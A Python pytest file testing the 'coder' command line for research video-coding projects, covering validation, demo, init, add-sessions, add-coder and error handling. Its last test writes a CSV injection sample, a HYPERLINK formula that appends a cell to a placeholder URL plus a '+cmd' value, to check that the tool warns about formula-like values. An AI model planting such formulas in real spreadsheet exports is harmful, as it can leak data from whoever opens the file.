"""The ``coder`` command line, run in-process (plus one real subprocess for the entry point)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from coder import __version__
from coder.cli import build_parser, main
from coder.project import Project
from coder.shipped import shipped_schemes_dir

ROOT = Path(__file__).resolve().parents[1]
SCHEMES = shipped_schemes_dir()
MINI = """\
format_version: 1
id: mini
version: "1"
title: Mini
segments:
  - {id: play, nominal_ms: 1000}
ratings:
  - {id: SENS, min: 1, max: 7, segments: [play]}
  - {id: INTR, min: 1, max: 7, segments: [play]}
composites:
  - {id: quality, items: [SENS, INTR], method: mean}
"""


def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str, str]:
    status = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return status, out, err


def test_version_in_a_real_process() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "coder", "--version"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0
    assert result.stdout.strip() == f"coder {__version__}"


def test_every_command_documents_itself(capsys: pytest.CaptureFixture[str]) -> None:
    parser = build_parser()
    commands = next(a for a in parser._actions if a.dest == "command").choices
    assert {"demo", "init", "add-sessions", "add-coder", "validate"} <= set(commands)
    for name, sub in commands.items():
        assert sub.description, f"coder {name} has no description"
        with pytest.raises(SystemExit) as caught:
            main([name, "--help"])
        assert caught.value.code == 0
    capsys.readouterr()
    assert run(capsys)[0] == 0  # no command: help


def test_validate_shipped_schemes(capsys: pytest.CaptureFixture[str]) -> None:
    files = sorted(SCHEMES.glob("*.yaml"))
    assert len(files) >= 7
    status, out, _err = run(capsys, "validate", *files)
    assert status == 0
    assert f"valid ({len(files)} checked)" in out


@pytest.mark.parametrize(
    ("text", "field"),
    [
        (MINI.replace("title: Mini", "title: Mini\ntitle: Again"), "title"),
        (MINI.replace("items: [SENS, INTR]", "items: [SENS, NOPE]"), "composites[0].items"),
    ],
    ids=["duplicate-key", "unknown-composite-item"],
)
def test_validate_bad_scheme_names_file_and_field(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, text: str, field: str
) -> None:
    good = tmp_path / "good.yaml"
    good.write_text(MINI)
    bad = tmp_path / "bad.yaml"
    bad.write_text(text)
    assert run(capsys, "validate", good)[0] == 0
    status, out, err = run(capsys, "validate", good, bad, "--json", "-")
    assert status == 1
    assert str(bad) in err and field in err
    assert str(good) not in err
    report = json.loads(out)
    assert report["valid"] is False
    assert {p["path"] for p in report["problems"]} == {str(bad)}


def test_demo_then_validate(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    target = tmp_path / "demo"
    status, out, _err = run(capsys, "demo", target, "--seconds", "8")
    assert status == 0
    assert "6 sessions" in out and "ana, ben" in out
    status, out, err = run(capsys, "validate", target)
    assert (status, err) == (0, "")
    assert "valid (1 checked)" in out
    status, out, _err = run(capsys, "validate", target / "project.json", "--json", "-")
    assert status == 0 and json.loads(out) == {"valid": True, "problems": []}
    # Damage shows as a problem naming the file, exit status 1.
    video = Project.open(target).video_path(Project.open(target).sessions[0].code)
    video.unlink()
    status, _out, err = run(capsys, "validate", target)
    assert status == 1
    assert str(video) in err and "missing" in err


def test_init_add_sessions_add_coder(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODER_SKIP_PROBE", "1")  # the videos here are not real media
    own = tmp_path / "mine.yaml"
    own.write_text(MINI)
    study = tmp_path / "study"
    status, out, _err = run(
        capsys, "init", study, "--scheme", "ssp", "--scheme", "care_index.yaml", "--scheme", own
    )
    assert status == 0
    assert "ssp 1.0" in out and "care_index 1.0" in out and "mini 1" in out
    project = Project.open(study)
    assert [e.id for e in project.data.schemes] == ["ssp", "care_index", "mini"]
    incoming = tmp_path / "incoming"
    incoming.mkdir()
    for name in ("P1_t0.mp4", "P2_t0.mp4"):
        (incoming / name).write_bytes(name.encode() * 10)
    participants = tmp_path / "participants.csv"
    participants.write_text(
        "video,participant,arm,timepoint\nincoming/P1_t0.mp4,P1,PIP,t0\nP2_t0.mp4,P2,TAU,t0\n",
        encoding="utf-8",
    )
    status, out, _err = run(
        capsys,
        "add-sessions",
        study,
        incoming / "P1_t0.mp4",
        incoming / "P2_t0.mp4",
        "--scheme",
        "care_index",
        "--key",
        participants,
    )
    assert status == 0
    lines = out.strip().splitlines()
    assert len(lines) == 2
    codes = [line.split("\t")[0] for line in lines]
    project = Project.open(study)
    assert [s.code for s in project.sessions] == codes
    assert all(s.scheme == "care_index" for s in project.sessions)
    key = {row["session"]: row for row in project.key()}
    assert key[codes[0]]["participant"] == "P1" and key[codes[1]]["arm"] == "TAU"
    status, out, _err = run(capsys, "add-coder", study, "ana", "--name", "Ana")
    assert status == 0 and "ana" in out
    assert [(c.id, c.name) for c in Project.open(study).coders] == [("ana", "Ana")]
    status, _out, err = run(capsys, "add-coder", study, "Ana Smith")
    assert status == 2 and "not a valid coder id" in err


def test_add_sessions_with_an_incomplete_participants_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODER_SKIP_PROBE", "1")
    study = tmp_path / "study"
    assert run(capsys, "init", study, "--scheme", "ssp")[0] == 0
    video = tmp_path / "a.mp4"
    video.write_bytes(b"x")
    wrong = tmp_path / "wrong.csv"
    wrong.write_text("file,participant\na.mp4,P1\n")
    status, _out, err = run(capsys, "add-sessions", study, video, "--key", wrong)
    assert status == 2 and "'video' column" in err and str(wrong) in err
    other = tmp_path / "other.csv"
    other.write_text("video,participant\nb.mp4,P1\n")
    status, _out, err = run(capsys, "add-sessions", study, video, "--key", other)
    assert status == 2 and "a.mp4" in err
    assert Project.open(study).sessions == []


@pytest.mark.parametrize(
    ("argv", "named"),
    [
        (["add-coder", "{tmp}/nothing-here", "ana"], "{tmp}/nothing-here"),
        (["add-sessions", "{tmp}/nothing-here", "{tmp}/a.mp4"], "{tmp}/nothing-here"),
        (["validate", "{tmp}/missing.yaml"], "{tmp}/missing.yaml"),
        (["init", "{tmp}/full"], "{tmp}/full"),
        (["init", "{tmp}/new", "--scheme", "no_such_scheme"], "no_such_scheme"),
        (["demo", "{tmp}/full", "--seconds", "6"], "{tmp}/full"),
    ],
)
def test_errors_exit_without_traceback(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, argv: list[str], named: str
) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "notes.txt").write_text("keep me")
    status, _out, err = run(capsys, *[a.format(tmp=tmp_path) for a in argv])
    assert status in (1, 2)
    assert named.format(tmp=tmp_path) in err, "the error names the file"
    if argv[0] != "validate":
        assert status == 2 and err.startswith("coder: ")
    assert (tmp_path / "full" / "notes.txt").read_text() == "keep me"
    assert not (tmp_path / "new").exists()


def test_reliability_with_an_unknown_coder_is_an_error(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    study = tmp_path / "study"
    assert run(capsys, "init", study)[0] == 0
    assert run(capsys, "add-coder", study, "ana")[0] == 0
    status, out, err = run(capsys, "reliability", study, "--coders", "ana,zed")
    assert status == 2 and "no coder 'zed'" in err and "project.json" in err
    assert out == ""


def test_reliability_csv_into_a_file_is_one_line_not_a_traceback(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    study = tmp_path / "study"
    assert run(capsys, "init", study)[0] == 0
    taken = tmp_path / "tables.csv"
    taken.write_text("keep me")
    status, _out, err = run(capsys, "reliability", study, "--csv", taken)
    assert status == 2 and str(taken) in err and "not a folder" in err
    assert taken.read_text() == "keep me"


def test_an_os_error_no_command_named_is_one_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from coder.cli import reliability

    def fail(_args: object) -> int:
        raise FileExistsError(17, "File exists", str(tmp_path / "x"))

    monkeypatch.setattr(reliability, "run", fail)
    status, _out, err = run(capsys, "reliability", tmp_path)
    assert status == 2 and err.startswith(f"coder: {tmp_path / 'x'}: File exists")


def _new_study(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Path:
    study = tmp_path / "study"
    assert run(capsys, "init", study, "--scheme", "ssp")[0] == 0
    return study


def test_add_sessions_refuses_two_participant_rows_for_one_video(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODER_SKIP_PROBE", "1")
    study = _new_study(capsys, tmp_path)
    video = tmp_path / "P1_t0.mp4"
    video.write_bytes(b"one")
    participants = tmp_path / "participants.csv"
    participants.write_text("video,participant,arm,timepoint\nP1_t0.mp4,P1,A,t0\n"
                            "P2_t0.mp4,P2,B,t0\nP1_t0.mp4,P1,B,t0\n")
    status, _out, err = run(capsys, "add-sessions", study, video, "--key", participants)
    assert status == 2
    assert err.strip() == (f"coder: {participants}: lines 2 and 4 both describe video "
                           "'P1_t0.mp4' (keep one row per video)")
    assert Project.open(study).sessions == []


def test_add_sessions_refuses_a_video_the_project_has_unless_asked(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODER_SKIP_PROBE", "1")
    study = _new_study(capsys, tmp_path)
    video = tmp_path / "a.mp4"
    video.write_bytes(b"same bytes")
    copy = tmp_path / "copy-of-a.mp4"
    copy.write_bytes(b"same bytes")
    status, out, _err = run(capsys, "add-sessions", study, video)
    assert status == 0
    code = out.split("\t")[0]
    status, _out, err = run(capsys, "add-sessions", study, video)
    assert status == 2
    assert f"coder: {video}: is the same file as the video of session {code}; nothing was added" in err
    assert "--allow-duplicate-video" in err
    status, _out, err = run(capsys, "add-sessions", study, copy)
    assert status == 2 and f"is the same content as the video of session {code}" in err
    # Given twice in one call: refused before anything is added.
    other = tmp_path / "b.mp4"
    other.write_bytes(b"other bytes")
    status, _out, err = run(capsys, "add-sessions", study, other, other)
    assert status == 2 and f"is the same file as the video of '{other}' given before it" in err
    assert len(Project.open(study).sessions) == 1
    status, _out, _err = run(capsys, "add-sessions", study, copy, "--allow-duplicate-video")
    assert status == 0 and len(Project.open(study).sessions) == 2


def test_add_sessions_warns_about_formula_like_key_values_and_keeps_them(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODER_SKIP_PROBE", "1")
    study = _new_study(capsys, tmp_path)
    video = tmp_path / "v.mp4"
    video.write_bytes(b"v")
    participants = tmp_path / "participants.csv"
    participants.write_text('video,participant,arm,timepoint\nv.mp4,"=HYPERLINK(""http://x""&A1)",'
                            "+cmd,-2\n")
    status, _out, err = run(capsys, "add-sessions", study, video, "--key", participants)
    assert status == 0
    warnings = [line for line in err.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 2
    assert warnings[0].startswith(
        f"warning: {participants}: column 'participant': '=HYPERLINK(\"http://x\"&A1)' begins "
        "with =, +, - or @: a spreadsheet program opening a CSV file may run it as a formula"
    )
    assert "column 'arm': '+cmd'" in warnings[1]
    (row,) = Project.open(study).key()
    assert row["participant"] == '=HYPERLINK("http://x"&A1)' and row["arm"] == "+cmd"
